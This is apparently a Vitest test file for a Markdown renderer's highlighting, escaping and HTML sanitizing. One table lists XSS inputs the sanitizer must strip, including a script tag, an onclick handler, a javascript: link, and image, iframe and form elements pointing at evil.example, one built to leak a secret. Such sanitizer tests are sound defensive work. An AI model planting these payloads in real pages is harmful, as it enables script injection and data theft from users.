// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown'

function render(md: string): HTMLElement {
  const div = document.createElement('div')
  div.innerHTML = renderMarkdown(md)
  return div
}

describe('renderMarkdown', () => {
  it('renders Markdown with highlighted code', () => {
    const el = render('# Title\n\nSome **bold** text.\n\n```go\nfunc main() {}\n```\n')
    expect(el.querySelector('h1')?.textContent).toBe('Title')
    expect(el.querySelector('strong')?.textContent).toBe('bold')
    const code = el.querySelector('.codeblock code')
    expect(code?.textContent).toBe('func main() {}')
    expect(code?.querySelector('.hljs-keyword')?.textContent).toBe('func')
    expect(el.querySelector('.codeblock-head span')?.textContent).toBe('go')
  })

  it('leaves unknown languages plain and escaped', () => {
    const el = render('```klingon\n<b>qapla</b>\n```')
    expect(el.querySelector('code')?.textContent).toBe('<b>qapla</b>')
    expect(el.querySelector('code b')).toBeNull()
  })

  it.each([
    ['a script tag', '<script>window.pwned = 1</script>hi', 'script'],
    ['an event handler', '<a href="#" onclick="alert(1)">x</a>', '[onclick]'],
    ['a javascript: link', '[click](javascript:alert(1))', 'a[href^="javascript"]'],
    ['an image that could leak data', '![x](http://evil.example/leak?secret)', 'img'],
    ['an iframe', '<iframe src="http://evil.example"></iframe>', 'iframe'],
    ['inline style', '<p style="position:fixed">x</p>', '[style]'],
    ['a form', '<form action="http://evil.example"><input name=a></form>', 'form, input'],
  ])('removes %s', (_, md, selector) => {
    expect(render(md).querySelector(selector)).toBeNull()
  })

  it('opens links in a new tab without an opener', () => {
    const a = render('[docs](https://example.com)').querySelector('a')!
    expect(a.getAttribute('target')).toBe('_blank')
    expect(a.getAttribute('rel')).toBe('noopener noreferrer')
  })
})
